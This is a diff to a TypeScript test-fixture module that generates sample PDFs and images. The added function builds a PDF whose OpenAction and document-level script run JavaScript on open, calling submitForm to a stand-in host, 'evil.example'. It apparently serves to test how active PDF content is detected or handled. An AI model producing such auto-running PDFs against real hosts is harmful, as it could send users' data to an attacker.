@@ -1,6 +1,6 @@
 /** Real files for tests, made on the spot: PDFs with pdf-lib, rasters with sharp, and a few crafted by hand. */
 import zlib from 'node:zlib';
-import { PDFDocument, rgb, StandardFonts } from 'pdf-lib';
+import { PDFDocument, PDFName, PDFString, rgb, StandardFonts } from 'pdf-lib';
 import sharp from 'sharp';
 
 /** An image with some structure (a frame and a bar), so that decoding and re-encoding have work to do. */
@@ -31,6 +31,22 @@ export async function samplePdf(pageSizes: Array<[number, number]> = [[612, 792]
     page.drawRectangle({ x: 72, y: 72, width: width / 3, height: height / 4, borderColor: rgb(0, 0, 0), borderWidth: 2 });
   });
   return Buffer.from(await document.save());
+}
+
+/** A one-page PDF that runs JavaScript when opened (an OpenAction) and from a document-level script. */
+export async function pdfWithJavaScript(): Promise<Buffer> {
+  const document = await PDFDocument.load(await samplePdf());
+  const script = document.context.register(
+    document.context.obj({
+      Type: 'Action',
+      S: 'JavaScript',
+      JS: PDFString.of('app.alert("hello"); this.submitForm("https://evil.example/")'),
+    }),
+  );
+  document.catalog.set(PDFName.of('OpenAction'), script);
+  const names = document.context.obj({ JavaScript: document.context.obj({ Names: [PDFString.of('run'), script] }) });
+  document.catalog.set(PDFName.of('Names'), document.context.register(names));
+  return Buffer.from(await document.save({ useObjectStreams: false }));
 }
 
 function pngChunk(type: string, data: Buffer): Buffer {
